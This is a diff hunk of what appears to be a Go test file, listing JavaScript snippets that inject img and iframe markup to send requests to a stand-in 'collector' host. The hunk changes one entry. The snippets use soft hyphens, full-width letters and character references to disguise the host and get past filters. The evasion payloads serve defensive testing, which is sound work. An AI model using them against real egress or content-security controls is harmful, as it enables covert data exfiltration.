@@ -110,7 +110,7 @@ var waysToSend = []struct{ name, script string }{
 	{"markup with a soft hyphen in the host", `put().innerHTML = '<img src="$">'.replace("collector", "col\u00adlector")`},
 	{"markup with a wide letter in the host", `put().innerHTML = '<img src="$">'.replace("collector", "ｃollector")`},
 	{"markup with a reference that needs no semicolon",
-		`put().innerHTML = '<img src="$">'.replace("localhost", "localhost&shy")`},
+		`put().innerHTML = '<img src="$">'.replace(".localhost", "&shy.localhost")`},
 	{"references within a frame's own document", `put().innerHTML =
 		'<iframe srcdoc="<img src=$>"></iframe>'.replace("collector", "&amp;#99;ollector")`},
 	{"a base in a frame's own document", `{ const f = document.createElement("iframe");
